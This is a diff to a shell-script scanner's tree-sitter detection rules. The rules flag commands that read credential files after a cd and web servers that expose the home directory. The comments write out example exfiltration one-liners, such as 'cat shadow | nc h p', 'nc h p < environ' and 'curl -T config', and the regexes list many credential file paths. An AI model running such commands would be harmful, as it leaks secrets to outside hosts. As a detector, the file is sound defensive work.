@@ -344,16 +344,20 @@
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
 
 ; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
-; shadow | nc h p, cd /proc/self; nc h p < environ: a credential file named
-; relative to the directory the statement before went to (a directory that
-; is itself one, ~/.ssh, already is); only a plain cd and, after it, a
-; command, a pipeline or a redirect, in a block, a list or a subshell (the
-; pattern is anchored on those, not on every node)
-([(list (command argument: (_) @dir) @cd . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)
-  (redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
-  (program [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)
-  (compound_statement [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)
-  (subshell [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)]
+; shadow | nc h p, cd /proc/self; nc h p < environ, cd ~/.kube on a line of
+; its own then gzip -c config | nc h p: a credential file named relative
+; to the directory the cd right before its statement went to (a directory
+; that is itself one, ~/.ssh, already is; the same directory's ordinary
+; files are not)
+([(command argument: (_) @target) (file_redirect destination: (_) @target)] @finding
+ (#value-match? @target "^([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
+ (#after-cd-match? @target "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/*$")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
+
+; (cd /proc/self && nc h p) < environ: a list's redirect
+((redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
  (#resolves-to? @cd "cd|pushd")
  (#value-match? @dir "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/*$")
  (#value-match? @target "^([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
@@ -401,29 +405,13 @@
  (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))
 
 ; cd ~; python3 -m http.server 8000 &, cd "$HOME" && busybox httpd,
-; cd /, then php -S 0.0.0.0:80: a web server started after a cd to the home
-; directory (or /) serves the directory it runs in (no --directory, -t, -h,
-; or ".") -- the home, its keys and tokens with it
-([(list [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)
-  (program [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)
-  (compound_statement [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)
-  (subshell [(command argument: (_) @dir) @cd (redirected_statement body: (command argument: (_) @dir) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)]
- (#resolves-to? @cd "cd|pushd")
- (#value-match? @dir "^(~|/home/[^/]+|/root|/)/*$")
+; cd / (or a bare cd) then php -S 0.0.0.0:80: a web server started right
+; after a cd to the home directory (or /) serves the directory it runs in
+; (no --directory, -t, -h, or ".") -- the home, its keys and tokens with it
+((command) @n @finding
  (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*|npx|http-server|serve")
  (#match? @n "(^|\\s)-m\\s*(http\\.server|SimpleHTTPServer)(?!.*\\s(--directory|-d)(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|\\s-S\\s+\\S+(?!.*\\s-t(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|(^|\\s)httpd(?!.*\\s-h(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|-e\\s*[\"']?httpd[\"']?(\\s+(\\.|\\./|-p\\s*\\d+|--port[=\\s]*\\d+|(-b|--bind-address)[=\\s]*\\S+))*\\s*$|(^|\\s)(http-server|serve)(\\s+(\\.|\\./|\\d+|(-p|-l|-a|--port|--listen)[=\\s]*\\S+|-[a-zA-Z]+))*\\s*$")
- (#set! id "sh-credentials")
- (#set! severity "high")
- (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))
-
-; (a cd without an argument goes to the home directory)
-([(list [(command name: (_) .) @cd (redirected_statement body: (command name: (_) .) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)
-  (program [(command name: (_) .) @cd (redirected_statement body: (command name: (_) .) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)
-  (compound_statement [(command name: (_) .) @cd (redirected_statement body: (command name: (_) .) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)
-  (subshell [(command name: (_) .) @cd (redirected_statement body: (command name: (_) .) @cd)] . [(command) @n (redirected_statement body: (command) @n)] @finding)]
- (#resolves-to? @cd "cd|pushd")
- (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*|npx|http-server|serve")
- (#match? @n "(^|\\s)-m\\s*(http\\.server|SimpleHTTPServer)(?!.*\\s(--directory|-d)(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|\\s-S\\s+\\S+(?!.*\\s-t(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|(^|\\s)httpd(?!.*\\s-h(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|-e\\s*[\"']?httpd[\"']?(\\s+(\\.|\\./|-p\\s*\\d+|--port[=\\s]*\\d+|(-b|--bind-address)[=\\s]*\\S+))*\\s*$|(^|\\s)(http-server|serve)(\\s+(\\.|\\./|\\d+|(-p|-l|-a|--port|--listen)[=\\s]*\\S+|-[a-zA-Z]+))*\\s*$")
+ (#after-cd-match? @n "^(~|/home/[^/]+|/root|/)/*$")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))
